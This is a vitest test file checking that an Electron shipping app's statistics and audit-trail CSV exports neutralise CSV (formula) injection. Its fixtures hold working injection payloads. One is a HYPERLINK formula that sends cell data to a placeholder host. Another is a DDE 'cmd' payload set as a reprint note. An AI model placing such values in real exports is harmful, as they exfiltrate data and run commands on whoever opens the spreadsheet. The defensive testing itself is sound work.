/**
 * CSV injection (OWASP "CSV Injection"): text from people, scanners and the service in both CSV
 * exports must reach a spreadsheet as text, never as a formula. A worker named
 * `=HYPERLINK(…)`, a reprint's own words `@SUM(1+1)*cmd|…`, and the page's header words
 * beginning with `-`, `=`, `@` or `+`: the statistics CSV and the
 * trail CSV, in English and Czech, read back by SheetJS as a spreadsheet program reads a CSV, hold
 * no formula cell and no text that begins as a formula does, and every word is still there behind
 * the apostrophe that neutralises it. Through the real workflow (a sandbox, the journal, the print
 * queue, a virtual ZPL printer).
 */
import XLSX from 'xlsx';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { systemClock, type Clock } from '../../../electron/base/clock';
import { createAuditHandlers } from '../../../electron/audit/auditHandlers';
import { createStatisticsHandlers } from '../../../electron/statistics/statisticsHandlers';
import { createAuditTrailRepo } from '../../../electron/store/auditTrailRepo';
import { createStatisticsRepo } from '../../../electron/store/statisticsRepo';
import { statisticsCsvColumns, statisticsRange } from '../../../shared/contract/statistics';
import { startSandbox, type Sandbox } from '../../../sandbox/index';
import { shipment } from '../api/support';
import { startRig, type Rig } from '../workflows/workflowRig';
import { at, registerOperator } from '../../support/scriptedShift';

const WORKER = '=HYPERLINK("http://zlý.example/?x="&A1,"Klikněte")';
const NOTE = "@SUM(1+1)*cmd|' /C calc'!A0";
const HEADER = '-2+3 Balíky';

const day = new Date(2026, 4, 12);
let t = at(day, 8, 0, 0);
const clock: Clock = { now: () => new Date(t), setInterval: systemClock.setInterval };

let sb: Sandbox;
let rig: Rig;
beforeAll(async () => {
  sb = await startSandbox({ seed: 'demo' });
  rig = await startRig(sb, { clock });
  const worker = registerOperator(rig.db, { name: WORKER, badge: '!LS-OP-Z' }, t);
  rig.deps.desk.signIn(worker);
  const [d] = await rig.session.client.insertDeliveries([shipment()]);
  t = at(day, 9, 0, 0);
  expect((await rig.workflows.scanToClose.scan(d!.externalId!)).kind).toBe('printed');
  t = at(day, 9, 5, 0);
  const again = await rig.workflows.scanToClose.scan(d!.externalId!);
  expect(again.kind).toBe('already_closed');
  const reprinted = await rig.workflows.scanToClose.reprint({
    deliveryId: d!.deliveryId,
    scanId: again.scanId,
    why: { code: 'other', note: NOTE },
  });
  expect(reprinted.kind).toBe('printed');
  rig.deps.desk.signOut();
});
afterAll(async () => {
  await rig?.close();
  await sb?.close();
});

/** Every cell of the CSV as a spreadsheet program reads it. */
function cells(csv: string, delimiter: string): XLSX.CellObject[] {
  const wb = XLSX.read(csv.replace(/^\uFEFF/, ''), { type: 'string', FS: delimiter, raw: false });
  const sheet = wb.Sheets[wb.SheetNames[0]!]!;
  return Object.entries(sheet)
    .filter(([k]) => !k.startsWith('!'))
    .map(([, c]) => c as XLSX.CellObject);
}

function expectInert(csv: string, delimiter: string, words: string[]) {
  const all = cells(csv, delimiter);
  expect(all.length).toBeGreaterThan(10);
  expect(all.filter((c) => c.f !== undefined).map((c) => c.f)).toEqual([]);
  const texts = all.filter((c) => c.t === 's').map((c) => String(c.v));
  expect(texts.filter((v) => /^[=+\-@\t\r\n]/.test(v))).toEqual([]);
  // Nothing lost: each word is there, as text, behind the apostrophe.
  for (const w of words)
    expect(
      texts.some((v) => v.includes(w)),
      w,
    ).toBe(true);
}

describe.each([
  ['en', ','],
  ['cs', ';'],
] as const)('the exports in %s', (language, delimiter) => {
  it('the trail CSV holds no formula: the worker, the reprint’s words', async () => {
    const handlers = createAuditHandlers({
      trail: createAuditTrailRepo(rig.db),
      activeAccountId: () => rig.session.accountId,
    });
    const { csv } = await handlers['shipments.trailCsv']({
      from: at(day, 0, 0, 0).toISOString(),
      to: at(day, 24, 0, 0).toISOString(),
      timeZone: Intl.DateTimeFormat().resolvedOptions().timeZone,
      language,
    });
    expect(csv).toContain(NOTE);
    expectInert(csv, delimiter, [WORKER, NOTE]);
  });

  it('the statistics CSV holds no formula: the worker, the page’s header words', async () => {
    const handlers = createStatisticsHandlers(createStatisticsRepo(rig.db));
    const DAY = '2026-05-12';
    const { csv } = await handlers['statistics.csv']({
      range: statisticsRange.parse({ from: DAY, to: DAY }),
      language,
      labels: {
        columns: Object.fromEntries(statisticsCsvColumns.map((c) => [c, `${HEADER} ${c}`])) as Record<
          (typeof statisticsCsvColumns)[number],
          string
        >,
        nobody: '=1+1 nikdo',
        everyone: '@všichni',
        everyCarrier: '+všichni dopravci',
      },
    });
    expectInert(csv, delimiter, [WORKER, `${HEADER} parcels`, '@všichni']);
  });
});
